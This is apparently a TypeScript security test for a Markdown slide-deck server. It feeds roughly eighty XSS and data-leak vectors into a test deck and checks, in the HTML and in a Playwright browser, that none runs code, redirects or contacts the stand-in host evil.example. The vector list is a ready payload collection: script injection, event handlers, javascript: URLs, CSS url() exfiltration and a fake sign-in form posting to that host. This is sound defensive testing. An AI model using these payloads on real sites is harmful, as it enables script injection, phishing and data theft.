/** Attack: a deck without `client:` that tries to run code, to redirect the page, or to send data to another host. */
import type { Page } from 'playwright-core';
import { attribute, elements, parseHtml } from '../../../server/deck/html/tree.ts';
import { ask } from '../ask.ts';
import type { Attack, Context, Target } from '../context.ts';

/** What every vector would set or request: a name to search for, and a host that must never be contacted. */
const RAN = 'deckRan';
const HOST = 'evil.example';
const RUN = `window.${RAN}=1`;
const STEAL = `https://${HOST}/x`;

/** The vectors, each on its own slide. */
const VECTORS: readonly string[] = [
  `<script>${RUN}</script>`,
  `<script src="${STEAL}.js"></script>`,
  `<script type="module">${RUN}</script>`,
  `<SCRIPT >${RUN}</SCRIPT >`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script\n>${RUN}</script\n>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="data:text/javascript,${RUN}"></script></svg>`,
  `<math><script>${RUN}</script></math>`,
  `<img src=x onerror="${RUN}">`,
  `<img src=x ONERROR=${RUN}>`,
  `<img src=x\nonerror\n=\n"${RUN}">`,
  `<img/src=x/onerror=${RUN}>`,
  `<svg onload="${RUN}"></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`,
  `<svg><set attributeName=onmouseover to="${RUN}"></svg>`,
  `<svg><a><animate attributeName=href values="javascript:${RUN}"></animate><text>go</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' id='x'><script>${RUN}</script></svg>#x"></use></svg>`,
  `<svg><foreignObject><body onload="${RUN}"></body></foreignObject></svg>`,
  `<body onload="${RUN}">`,
  `<details open ontoggle="${RUN}">x</details>`,
  `<input autofocus onfocus="${RUN}">`,
  `<video><source onerror="${RUN}"></video>`,
  `<audio src=x onerror="${RUN}"></audio>`,
  `<marquee onstart="${RUN}">x</marquee>`,
  `<div style="animation:x 1s" onanimationstart="${RUN}">x</div>`,
  `<p onclick="${RUN}" onpointerenter="${RUN}">x</p>`,
  `<iframe srcdoc="<script>parent.${RAN}=1</script>"></iframe>`,
  `<iframe srcdoc="&lt;img src=x onerror=parent.${RAN}=1&gt;"></iframe>`,
  `<iframe src="javascript:parent.${RAN}=1"></iframe>`,
  `<iframe src="data:text/html,<script>parent.${RAN}=1</script>"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<object data="data:text/html,<script>${RUN}</script>"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>">`,
  `<meta http-equiv="refresh" content="0;url=${STEAL}">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
  `<base href="https://${HOST}/">`,
  `<link rel="stylesheet" href="${STEAL}.css">`,
  `<link rel="prefetch" href="${STEAL}">`,
  `<link rel="preconnect" href="https://${HOST}">`,
  `<link rel="dns-prefetch" href="//${HOST}">`,
  `<link rel="modulepreload" href="${STEAL}.js">`,
  `<link rel="import" href="${STEAL}.html">`,
  `<link rel="manifest" href="${STEAL}.json">`,
  `<form action="${STEAL}"><input name=key autofocus><button>Sign in</button></form>`,
  `<form id=f></form><button form=f formaction="javascript:${RUN}">x</button>`,
  `[go](javascript:${RUN})`,
  `[go](JaVaScRiPt:${RUN})`,
  `[go](java&#115;cript:${RUN})`,
  `[go](&#1;javascript:${RUN})`,
  `[go](data:text/html,<script>${RUN}</script>)`,
  `[go](vbscript:${RUN})`,
  `<a href="java\tscript:${RUN}">go</a>`,
  `<a href=" javascript:${RUN}">go</a>`,
  `<a href="x" ping="${STEAL}">go</a>`,
  `<style>@import "${STEAL}.css";</style>`,
  `<style>p { background: url(${STEAL}.png) }</style>`,
  `<style>@font-face { font-family: e; src: url(${STEAL}.woff2) } p { font-family: e }</style>`,
  `<style>input[value^=a] { background: url(${STEAL}?a) } </style><input value=abc>`,
  `<p style="background: url(${STEAL}.png)">x</p>`,
  `<p style="background-image: image-set('${STEAL}.png' 1x)">x</p>`,
  `<p style="--x: url(${STEAL}.png); background: var(--x)">x</p>`,
  '<div id="Reveal"></div><form name="location"></form><img name="currentScript">',
  `<template shadowrootmode="open"><img src=x onerror="${RUN}"></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<!--><img src=x onerror="${RUN}">-->`,
  `<textarea></textarea><img src=x onerror="${RUN}">`,
  `<xmp><img src=x onerror="${RUN}"></xmp>`,
  `<x-element onfocus="${RUN}" tabindex=0 autofocus></x-element>`,
  `<!-- .slide: onclick="${RUN}" data-background-iframe="javascript:parent.${RAN}=1" -->`,
  `<!-- .slide: data-background-image="x);}</style><script>${RUN}</script>" -->`,
  `text <!-- .element: onmouseover="${RUN}" href="javascript:${RUN}" -->`,
  `![x](x.png "\\" onerror=\\"${RUN}")`,
  `\`\`\`html"><img/src=x/onerror=${RUN}>\ncode\n\`\`\``,
  `$\\href{javascript:${RUN}}{x}$ $\\htmlData{x=y}{z}$ $\\includegraphics{${STEAL}.png}$`,
  `\`\`\`mermaid\ngraph TD; a["<img src=x onerror=${RUN}>"]; click a "javascript:${RUN}"\n\`\`\``,
  `\`\`\`dot\ndigraph { a [label="x" href="javascript:${RUN}"] }\n\`\`\``,
];

/**
 * Links and forms are followed only by a person's choice; all other vectors that name the host would contact it by
 * themselves.
 */
const BY_CHOICE = new Set([...VECTORS.keys()].filter((i) => /^(?:<a |<form action)/.test(VECTORS[i] ?? '')));

/** Elements that run something, or that change how the page's addresses resolve. */
const ACTIVE_ELEMENTS: ReadonlySet<string> = new Set('script base object embed meta link'.split(' '));

/** Addresses that run as a script, in any attribute, including characters that browsers ignore (URL Standard, 4.4). */
const SCRIPT_ADDRESS = /(?:^|;)\s*(?:javascript|vbscript):/i;

/** Attributes whose values are always text. */
const TEXT: ReadonlySet<string> = new Set('title alt id class value'.split(' '));

/** Milliseconds to stay on each slide. */
const STAY_MS = 60;

/** Checks the page's HTML, then opens the deck in a browser, goes to every slide and clicks everything there. */
export const hostileDeck: Attack = {
  name: 'hostile-deck',
  about: `${VECTORS.length} ways of a deck without \`client:\` to run code or ask another host, in the bytes and in a browser`,
  async run(context) {
    const slides = VECTORS.map((vector, i) => `## Slide ${i}\n\n${vector}\n`);
    const target = await context.serve({
      'decks/talk/deck.md': `# First\n\n---\n\n${slides.join('\n---\n\n')}`,
    });
    context.count(VECTORS.length);
    return [...(await inBytes(target)), ...(await inBrowser(context, target))];
  },
};

/** Checks the HTML as a browser's parser would read it. */
async function inBytes(target: Target): Promise<string[]> {
  const { text, headers } = await ask(target.port, '/talk/');
  const findings: string[] = [];
  const sections = elements(parseHtml(text)).filter(({ tagName }) => tagName === 'section');
  for (const section of sections) {
    const slide = attribute(section, 'id');
    for (const { tagName, attrs } of elements(section)) {
      if (ACTIVE_ELEMENTS.has(tagName)) findings.push(`${slide} has <${tagName}>.`);
      for (const { name, value } of attrs) {
        const runs = /^on|^srcdoc$/.test(name) || SCRIPT_ADDRESS.test(value.replace(/[\0-\x20]/g, ''));
        if (runs && !TEXT.has(name))
          findings.push(`${slide} has <${tagName} ${name}=${JSON.stringify(value)}>.`);
      }
    }
  }
  const policy = String(headers['content-security-policy']);
  if (
    /script-src[^;]*(?:'unsafe-inline'|'unsafe-eval'|\*|https?:)/.test(policy) ||
    !/default-src 'self'/.test(policy)
  )
    findings.push(`The policy is open: ${policy}`);
  return findings;
}

async function inBrowser(context: Context, target: Target): Promise<string[]> {
  const browser = await context.browser();
  const page = await browser.newPage({ serviceWorkers: 'block' });
  const findings: string[] = [];
  let at = 'at the start';
  page.on('dialog', (dialog) => {
    findings.push(`A dialog opened ${at}.`);
    void dialog.dismiss();
  });
  await page.route(/./, (route) => {
    const url = new URL(route.request().url());
    if (url.origin === target.url || !/^https?:$/.test(url.protocol)) return route.continue();
    // Pictures and frames may come from hosts that the deck names: that is the author's decision.
    const isShown =
      /^(?:image|media|font)$/.test(route.request().resourceType()) || route.request().isNavigationRequest();
    if (!isShown) findings.push(`${route.request().resourceType()} ${url} is asked for ${at}.`);
    return route.abort();
  });
  await page.exposeFunction('reportRan', () => findings.push(`Code ran ${at}.`));
  await page.addInitScript((name) => {
    Object.defineProperty(globalThis, name, { set: () => Reflect.get(globalThis, 'reportRan')() });
  }, RAN);
  const open = async () => {
    const url = `${target.url}/talk/`;
    // A navigation started by a click may interrupt this one.
    await page.goto(url).catch(() => page.goto(url));
    await page.waitForSelector('.reveal.ready');
  };
  await open();
  for (const [i, vector] of VECTORS.entries()) {
    at = `by ${JSON.stringify(vector.slice(0, 120))}`;
    const isThere = await page.evaluate((id) => {
      const slide = document.getElementById(id);
      if (slide)
        Reflect.get(globalThis, 'Reveal').slide(Reflect.get(globalThis, 'Reveal').getIndices(slide).h);
      return slide !== null;
    }, `slide-${i}`);
    // A vector that is not closed swallows the next slide, as CommonMark specifies.
    if (!isThere) continue;
    await page.waitForTimeout(STAY_MS);
    if (!page.url().startsWith(`${target.url}/talk/`)) {
      findings.push(`The page was led to ${page.url()} ${at}.`);
      await open();
    }
    if (BY_CHOICE.has(i)) continue;
    at = `by a click on ${JSON.stringify(vector.slice(0, 120))}`;
    // A click may navigate to other pages of this server, which is the visitor's choice; then the deck is opened
    // again.
    const stayed = await touch(page)
      .then(() => page.waitForTimeout(STAY_MS))
      .then(() => page.evaluate(() => document.querySelector('.reveal.ready') !== null))
      .catch(() => false);
    if (!stayed || !page.url().startsWith(`${target.url}/talk/#`)) await open();
  }
  await page.close();
  return [...new Set(findings)];
}

/** Dispatches events on all elements of the current slide, and clicks those that do not link to other hosts. */
async function touch(page: Page): Promise<void> {
  await page.evaluate(() => {
    const slide = document.querySelector('.slides .present:not(.stack)');
    for (const element of slide?.querySelectorAll('*') ?? []) {
      for (const type of ['pointerenter', 'mouseover', 'focus', 'toggle', 'error', 'load', 'animationstart'])
        element.dispatchEvent(new Event(type));
      const address = element.getAttribute('href') ?? '';
      if (!/^https?:|^\/\//.test(address))
        element.dispatchEvent(new MouseEvent('click', { cancelable: true }));
    }
  });
}
